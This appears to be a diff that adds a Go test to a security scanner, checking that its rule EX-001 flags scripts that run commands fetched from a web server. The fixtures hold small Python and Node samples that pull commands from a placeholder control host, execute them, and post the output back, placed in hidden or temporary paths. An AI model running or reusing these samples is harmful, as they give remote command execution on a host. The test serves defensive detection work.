@@ -380,3 +380,32 @@ func TestServiceTunnelSeverity(t *testing.T) {
 		}
 	}
 }
+
+// TestFetchedCommandRunOnce: interpreter code that runs, once and with no loop, a command
+// line a web server returned is a download run (EX-001), high in a hidden or temporary place,
+// through helper functions as well; code that fetches data and runs a fixed command stays
+// silent.
+func TestFetchedCommandRunOnce(t *testing.T) {
+	u := "http://" + c2Host + ":12345"
+	tests := []struct {
+		name, path, text string
+		want             audit.Severity // 0: no EX-001
+	}{
+		{"helpers, hidden place", "/opt/.rcr/client.py", "import requests\nimport os\n\ndef get_cmd():\n    cmd = requests.get('" + u + "/cmd').text\n    return cmd\n\ndef execute_cmd(cmd):\n    return os.popen(cmd).read()\n\ndef post_response(r):\n    requests.post('" + u + "/out', data={'d': r})\n\nexecute_cmd(get_cmd())\n", audit.High},
+		{"urlopen into os.system", "/usr/local/lib/tool/run.py", "import os\nfrom urllib.request import urlopen\nc = urlopen('" + u + "/c').read().decode()\nos.system(c)\nurlopen('" + u + "/r', data=b'done')\n", audit.Medium},
+		{"node execSync of a fetched line", "/tmp/.n/r.js", "const { execSync } = require('child_process');\n(async () => {\n  const r = await fetch('" + u + "/c');\n  const c = await r.text();\n  execSync(c);\n  await fetch('" + u + "/ok', { method: 'POST', body: 'x' });\n})();\n", audit.High},
+		{"data fetched, fixed command run", "/usr/local/lib/tool/sync.py", "import requests, subprocess\ncfg = requests.get('https://config.example.org/app.json').json()\nsubprocess.run(['systemctl', 'reload', 'app'])\nrequests.post('https://config.example.org/ack', data={'v': cfg['version']})\n", 0},
+	}
+	for _, tc := range tests {
+		fs := scanFile(tc.path, tc.text)
+		var got audit.Severity
+		for _, f := range fs {
+			if f.Rule == RuleFetchRun && f.Severity > got {
+				got = f.Severity
+			}
+		}
+		if got != tc.want {
+			t.Errorf("%s: EX-001 at %v, want %v\n%s", tc.name, got, tc.want, dump(fs))
+		}
+	}
+}
